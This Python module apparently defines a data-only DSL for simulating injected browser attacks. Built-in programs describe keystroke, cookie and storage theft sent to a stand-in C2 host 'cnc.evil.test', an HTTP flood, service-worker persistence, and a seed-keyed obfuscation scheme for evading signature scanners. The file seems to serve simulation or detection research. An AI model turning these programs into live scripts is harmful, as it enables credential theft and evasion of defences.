"""Behavior payload DSL.

A payload is a small instruction program describing what an injected script
does (open exfil sockets, hook keystrokes, spawn workers, flood a target...)
plus a trigger condition saying when it fires. Payloads are plain data, never
executable code, which keeps behavior machine-checkable.

The module also implements the seed-keyed reversible obfuscation transform
used to model polymorphic delivery: distinct seeds give byte-distinct blobs
with identical normalized semantics. All seed-derived randomness is SHA-256
based so the transform is portable across implementations.
"""

from __future__ import annotations

import base64
import hashlib
import json
from dataclasses import dataclass, fields
from typing import Union

DEFAULT_CNC_URL = "ws://cnc.evil.test:8787/ws"
DEFAULT_FOREIGN_SCRIPT_URL = "https://static.evil.test/foo.js"
DEFAULT_FLOOD_TARGET = "http://flood-target.test/"

SEND_KINDS = ("Keystrokes", "Storage", "MapResult")
MAP_FNS = ("WordCount", "SumOfSquares")

MAX_U64 = 2**64 - 1


class PayloadError(ValueError):
    """Base class for payload DSL errors."""


class InvalidPayload(PayloadError):
    """The instruction program violates a DSL rule."""


class CorruptBlob(PayloadError):
    """An obfuscated blob failed to decode back into a payload."""


def _check_u64(value: int, name: str) -> int:
    if isinstance(value, bool) or not isinstance(value, int):
        raise InvalidPayload(f"{name} must be an integer, got {value!r}")
    if not 0 <= value <= MAX_U64:
        raise InvalidPayload(f"{name} out of range: {value}")
    return value


# --------------------------------------------------------------------------
# Triggers

@dataclass(frozen=True)
class OnEvent:
    """Fires when a page/chat event carrying `token` is observed."""

    token: str

    def __post_init__(self) -> None:
        if not isinstance(self.token, str) or not self.token:
            raise InvalidPayload("OnEvent token must be a non-empty string")


@dataclass(frozen=True)
class AtTick:
    """Fires at the given simulation tick."""

    tick: int

    def __post_init__(self) -> None:
        _check_u64(self.tick, "AtTick.tick")


@dataclass(frozen=True)
class Immediate:
    """Fires as soon as the payload is delivered."""


TriggerSpec = Union[OnEvent, AtTick, Immediate]


def trigger_to_dict(trigger: TriggerSpec) -> dict:
    if isinstance(trigger, OnEvent):
        return {"kind": "OnEvent", "token": trigger.token}
    if isinstance(trigger, AtTick):
        return {"kind": "AtTick", "tick": trigger.tick}
    if isinstance(trigger, Immediate):
        return {"kind": "Immediate"}
    raise InvalidPayload(f"not a trigger: {trigger!r}")


def trigger_from_dict(data: dict) -> TriggerSpec:
    if not isinstance(data, dict):
        raise InvalidPayload(f"trigger must be an object, got {data!r}")
    kind = data.get("kind")
    if kind == "OnEvent":
        return OnEvent(token=data.get("token", ""))
    if kind == "AtTick":
        return AtTick(tick=data.get("tick", -1))
    if kind == "Immediate":
        return Immediate()
    raise InvalidPayload(f"unknown trigger kind: {kind!r}")


# --------------------------------------------------------------------------
# Instructions

@dataclass(frozen=True)
class OpenSocket:
    """Open a full-duplex channel to `url` (exempt from same-origin rules)."""

    url: str


@dataclass(frozen=True)
class HookKeystrokes:
    """Install a keystroke listener on the page."""


@dataclass(frozen=True)
class ReadCookies:
    """Snapshot the victim's cookie jar."""


@dataclass(frozen=True)
class ReadWebStorage:
    """Snapshot the victim's web storage."""


@dataclass(frozen=True)
class Send:
    """Exfiltrate collected data over a previously opened channel."""

    channel_url: str
    what: str  # one of SEND_KINDS

    def __post_init__(self) -> None:
        if self.what not in SEND_KINDS:
            raise InvalidPayload(f"Send.what must be one of {SEND_KINDS}, got {self.what!r}")


@dataclass(frozen=True)
class SpawnWorkerFromBlob:
    """Start a background worker whose script may come from a foreign origin."""

    script_origin_url: str
    inner: tuple


@dataclass(frozen=True)
class RegisterServiceWorker:
    """Register a persistent background worker that outlives pages and browser."""

    inner: tuple


@dataclass(frozen=True)
class ComputeMap:
    """Serve map-phase work: consume assigned chunks and emit partial results."""

    fn_id: str  # one of MAP_FNS

    def __post_init__(self) -> None:
        if self.fn_id not in MAP_FNS:
            raise InvalidPayload(f"ComputeMap.fn_id must be one of {MAP_FNS}, got {self.fn_id!r}")


@dataclass(frozen=True)
class HttpFlood:
    """Issue `rate` requests per tick toward `target` for `duration` ticks."""

    target: str
    rate: int
    duration: int

    def __post_init__(self) -> None:
        _check_u64(self.rate, "HttpFlood.rate")
        _check_u64(self.duration, "HttpFlood.duration")
        if self.rate < 1 or self.duration < 1:
            raise InvalidPayload("HttpFlood rate and duration must be >= 1")


Instruction = Union[
    OpenSocket,
    HookKeystrokes,
    ReadCookies,
    ReadWebStorage,
    Send,
    SpawnWorkerFromBlob,
    RegisterServiceWorker,
    ComputeMap,
    HttpFlood,
]

_INSTRUCTION_OPS = {
    "OpenSocket": OpenSocket,
    "HookKeystrokes": HookKeystrokes,
    "ReadCookies": ReadCookies,
    "ReadWebStorage": ReadWebStorage,
    "Send": Send,
    "SpawnWorkerFromBlob": SpawnWorkerFromBlob,
    "RegisterServiceWorker": RegisterServiceWorker,
    "ComputeMap": ComputeMap,
    "HttpFlood": HttpFlood,
}


def _coerce_program(value, where: str) -> tuple:
    if not isinstance(value, (tuple, list)):
        raise InvalidPayload(f"{where} must be a sequence of instructions")
    out = []
    for item in value:
        if not isinstance(item, _INSTRUCTION_TYPES):
            raise InvalidPayload(f"{where} contains a non-instruction: {item!r}")
        out.append(item)
    return tuple(out)


_INSTRUCTION_TYPES = tuple(_INSTRUCTION_OPS.values())

# Inner programs arrive as lists from JSON; normalize to tuples so payload
# values stay hashable and compare structurally.
def _freeze_inner(instr: Instruction) -> Instruction:
    if isinstance(instr, (SpawnWorkerFromBlob, RegisterServiceWorker)):
        frozen = tuple(_freeze_inner(i) for i in _coerce_program(instr.inner, "inner"))
        if isinstance(instr, SpawnWorkerFromBlob):
            return SpawnWorkerFromBlob(script_origin_url=instr.script_origin_url, inner=frozen)
        return RegisterServiceWorker(inner=frozen)
    return instr


def instruction_to_dict(instr: Instruction) -> dict:
    for op, cls in _INSTRUCTION_OPS.items():
        if isinstance(instr, cls):
            data = {"op": op}
            for f in fields(instr):
                value = getattr(instr, f.name)
                if f.name == "inner":
                    value = [instruction_to_dict(i) for i in value]
                data[f.name] = value
            return data
    raise InvalidPayload(f"not an instruction: {instr!r}")


def instruction_from_dict(data: dict) -> Instruction:
    if not isinstance(data, dict):
        raise InvalidPayload(f"instruction must be an object, got {data!r}")
    op = data.get("op")
    cls = _INSTRUCTION_OPS.get(op)
    if cls is None:
        raise InvalidPayload(f"unknown instruction op: {op!r}")
    kwargs = {}
    for f in fields(cls):
        if f.name not in data:
            raise InvalidPayload(f"instruction {op} missing field {f.name!r}")
        value = data[f.name]
        if f.name == "inner":
            value = tuple(instruction_from_dict(i) for i in value)
        kwargs[f.name] = value
    return cls(**kwargs)


# --------------------------------------------------------------------------
# Payload

@dataclass(frozen=True)
class Payload:
    """An instruction program plus the trigger that gates its execution."""

    payload_id: str
    instructions: tuple
    trigger: TriggerSpec

    def __post_init__(self) -> None:
        object.__setattr__(
            self,
            "instructions",
            tuple(_freeze_inner(i) for i in _coerce_program(self.instructions, "instructions")),
        )
        validate_program(self.payload_id, self.instructions, self.trigger)


def validate_program(payload_id: str, instructions: tuple, trigger: TriggerSpec) -> None:
    """Reject programs that could never run: sends on unopened channels,
    nested or duplicated service-worker registrations, empty programs."""
    if not isinstance(payload_id, str) or not payload_id:
        raise InvalidPayload("payload_id must be a non-empty string")
    if not isinstance(trigger, (OnEvent, AtTick, Immediate)):
        raise InvalidPayload(f"not a trigger: {trigger!r}")
    if not instructions:
        raise InvalidPayload(f"payload {payload_id!r} has an empty instruction list")

    sw_count = 0

    def walk(program: tuple, open_urls: set, nested: bool) -> None:
        nonlocal sw_count
        for instr in program:
            if isinstance(instr, OpenSocket):
                open_urls.add(instr.url)
            elif isinstance(instr, Send):
                if instr.channel_url not in open_urls:
                    raise InvalidPayload(
                        f"Send to {instr.channel_url!r} has no preceding OpenSocket"
                    )
            elif isinstance(instr, RegisterServiceWorker):
                if nested:
                    raise InvalidPayload("RegisterServiceWorker not allowed inside a worker")
                sw_count += 1
                if sw_count > 1:
                    raise InvalidPayload("at most one RegisterServiceWorker per payload")
                walk(instr.inner, set(open_urls), True)
            elif isinstance(instr, SpawnWorkerFromBlob):
                # Channels opened before the spawn are visible inside; inner
                # opens do not leak back out.
                walk(instr.inner, set(open_urls), True)

    walk(instructions, set(), False)


def payload_to_dict(p: Payload) -> dict:
    return {
        "payload_id": p.payload_id,
        "instructions": [instruction_to_dict(i) for i in p.instructions],
        "trigger": trigger_to_dict(p.trigger),
    }


def payload_from_dict(data: dict) -> Payload:
    if not isinstance(data, dict):
        raise InvalidPayload(f"payload must be an object, got {data!r}")
    for key in ("payload_id", "instructions", "trigger"):
        if key not in data:
            raise InvalidPayload(f"payload missing field {key!r}")
    return Payload(
        payload_id=data["payload_id"],
        instructions=tuple(instruction_from_dict(i) for i in data["instructions"]),
        trigger=trigger_from_dict(data["trigger"]),
    )


def payload_to_json(p: Payload) -> str:
    return json.dumps(payload_to_dict(p), sort_keys=True, separators=(",", ":"))


def payload_from_json(text: str) -> Payload:
    try:
        data = json.loads(text)
    except json.JSONDecodeError as exc:
        raise InvalidPayload(f"bad payload JSON: {exc}") from exc
    return payload_from_dict(data)


# --------------------------------------------------------------------------
# Obfuscation transform
#
# Pipeline: serialize to JSON -> rename every DSL keyword to a seed-keyed
# alias -> order object keys by a seed-keyed rank -> XOR with a seed-keyed
# keystream. Every stage is derived from SHA-256 over (seed, domain tag,
# input), so the transform is a deterministic bijection per seed and can be
# inverted by anything that can hash.

_VOCAB = tuple(
    sorted(
        set(_INSTRUCTION_OPS)
        | {
            "payload_id", "instructions", "trigger",
            "op", "url", "channel_url", "what", "script_origin_url",
            "inner", "fn_id", "target", "rate", "duration",
            "kind", "token", "tick",
        }
        | set(SEND_KINDS)
        | set(MAP_FNS)
        | {"OnEvent", "AtTick", "Immediate"}
    )
)

# Object fields whose *values* are DSL keywords and get aliased too.
_ENUM_VALUE_KEYS = frozenset({"op", "kind", "what", "fn_id"})


def _seed_bytes(seed: int) -> bytes:
    if isinstance(seed, bool) or not isinstance(seed, int) or not 0 <= seed <= MAX_U64:
        raise PayloadError(f"seed must be a u64, got {seed!r}")
    return seed.to_bytes(8, "big")


def _alias(seed: int, token: str) -> str:
    digest = hashlib.sha256(_seed_bytes(seed) + b"|rename|" + token.encode("utf-8"))
    return "_" + digest.hexdigest()[:12]


def _alias_maps(seed: int) -> tuple[dict, dict]:
    forward = {token: _alias(seed, token) for token in _VOCAB}
    inverse = {alias: token for token, alias in forward.items()}
    if len(inverse) != len(forward):  # pragma: no cover - 48-bit collision
        raise PayloadError(f"alias collision for seed {seed}")
    return forward, inverse


def _order_rank(seed: int, name: str) -> str:
    return hashlib.sha256(_seed_bytes(seed) + b"|order|" + name.encode("utf-8")).hexdigest()


def _keystream(seed: int, length: int) -> bytes:
    blocks = []
    counter = 0
    while len(blocks) * 32 < length:
        blocks.append(
            hashlib.sha256(_seed_bytes(seed) + b"|stream|" + counter.to_bytes(8, "big")).digest()
        )
        counter += 1
    return b"".join(blocks)[:length]


def _xor(data: bytes, key: bytes) -> bytes:
    return bytes(a ^ b for a, b in zip(data, key))


def _mask(node, forward: dict, seed: int):
    if isinstance(node, list):
        return [_mask(item, forward, seed) for item in node]
    if isinstance(node, dict):
        items = []
        for key, value in node.items():
            if key in _ENUM_VALUE_KEYS:
                masked = forward[value]
            else:
                masked = _mask(value, forward, seed)
            items.append((forward[key], masked))
        items.sort(key=lambda kv: _order_rank(seed, kv[0]))
        return dict(items)
    return node


def _unmask(node, inverse: dict):
    if isinstance(node, list):
        return [_unmask(item, inverse) for item in node]
    if isinstance(node, dict):
        plain = {}
        for key, value in node.items():
            if key not in inverse:
                raise CorruptBlob(f"unknown field alias {key!r}")
            name = inverse[key]
            if name in _ENUM_VALUE_KEYS:
                if value not in inverse:
                    raise CorruptBlob(f"unknown value alias {value!r} for {name}")
                plain[name] = inverse[value]
            else:
                plain[name] = _unmask(value, inverse)
        return plain
    return node


@dataclass(frozen=True)
class ObfuscatedBlob:
    """Seed-keyed reversible encoding of a payload; the wire/disk form."""

    bytes: bytes
    seed: int


def obfuscate(p: Payload, seed: int) -> ObfuscatedBlob:
    """Transform `p` into a byte blob whose content is keyed by `seed`.

    Deterministic in (p, seed); distinct seeds give distinct bytes with
    overwhelming probability while `normalize` recovers the exact payload.
    """
    forward, _ = _alias_maps(seed)
    masked = _mask(payload_to_dict(p), forward, seed)
    text = json.dumps(masked, separators=(",", ":"), ensure_ascii=False)
    raw = text.encode("utf-8")
    return ObfuscatedBlob(bytes=_xor(raw, _keystream(seed, len(raw))), seed=seed)


def normalize(blob: ObfuscatedBlob) -> Payload:
    """Invert `obfuscate` for the blob's seed. Raises CorruptBlob if the
    bytes were not produced by the transform (truncation, bit flips...)."""
    if not isinstance(blob.bytes, bytes):
        raise CorruptBlob("blob bytes must be bytes")
    try:
        text = _xor(blob.bytes, _keystream(blob.seed, len(blob.bytes))).decode("utf-8")
        masked = json.loads(text)
    except (UnicodeDecodeError, json.JSONDecodeError) as exc:
        raise CorruptBlob(f"blob does not decode: {exc}") from exc
    if not isinstance(masked, dict):
        raise CorruptBlob("blob does not decode to an object")
    _, inverse = _alias_maps(blob.seed)
    plain = _unmask(masked, inverse)
    try:
        return payload_from_dict(plain)
    except PayloadError as exc:
        raise CorruptBlob(f"blob decodes to an invalid payload: {exc}") from exc


def signature(blob: ObfuscatedBlob) -> bytes:
    """256-bit digest of the blob bytes, as a signature scanner would store."""
    return hashlib.sha256(blob.bytes).digest()


def derive_seed(seed: int, tag: str) -> int:
    """Domain-separated child seed, stable across runs and platforms."""
    digest = hashlib.sha256(_seed_bytes(seed) + b"|derive|" + tag.encode("utf-8")).digest()
    return int.from_bytes(digest[:8], "big")


def scramble_bytes(raw: bytes, seed: int) -> bytes:
    """Involutive keystream XOR; used for opaque on-disk script bodies."""
    return _xor(raw, _keystream(seed, len(raw)))


def blob_to_dict(blob: ObfuscatedBlob) -> dict:
    return {"blob": base64.b64encode(blob.bytes).decode("ascii"), "seed": blob.seed}


def blob_from_dict(data: dict) -> ObfuscatedBlob:
    try:
        raw = base64.b64decode(data["blob"], validate=True)
        seed = data["seed"]
    except (KeyError, TypeError, ValueError) as exc:
        raise CorruptBlob(f"bad blob encoding: {exc}") from exc
    _seed_bytes(seed)  # range check
    return ObfuscatedBlob(bytes=raw, seed=seed)


# --------------------------------------------------------------------------
# Built-in payloads

def builtin_payloads(cnc_url: str = DEFAULT_CNC_URL) -> dict:
    """The four shipped attack programs, keyed by name.

    `keycookielog` steals keystrokes/cookies/storage; `ddos_bot` floods a
    target; `map_worker` persists a compute loop in a service worker;
    `blob_worker` runs foreign-origin code in a background worker.
    """
    return {
        "keycookielog": Payload(
            payload_id="keycookielog",
            instructions=(
                HookKeystrokes(),
                ReadCookies(),
                ReadWebStorage(),
                OpenSocket(url=cnc_url),
                Send(channel_url=cnc_url, what="Keystrokes"),
                Send(channel_url=cnc_url, what="Storage"),
            ),
            trigger=OnEvent(token="tr1gger"),
        ),
        "ddos_bot": Payload(
            payload_id="ddos_bot",
            instructions=(
                HttpFlood(target=DEFAULT_FLOOD_TARGET, rate=25, duration=3),
            ),
            trigger=Immediate(),
        ),
        "map_worker": Payload(
            payload_id="map_worker",
            instructions=(
                RegisterServiceWorker(
                    inner=(
                        OpenSocket(url=cnc_url),
                        ComputeMap(fn_id="WordCount"),
                        Send(channel_url=cnc_url, what="MapResult"),
                    )
                ),
            ),
            trigger=Immediate(),
        ),
        "blob_worker": Payload(
            payload_id="blob_worker",
            instructions=(
                OpenSocket(url=cnc_url),
                SpawnWorkerFromBlob(
                    script_origin_url=DEFAULT_FOREIGN_SCRIPT_URL,
                    inner=(ComputeMap(fn_id="SumOfSquares"),),
                ),
            ),
            trigger=Immediate(),
        ),
    }
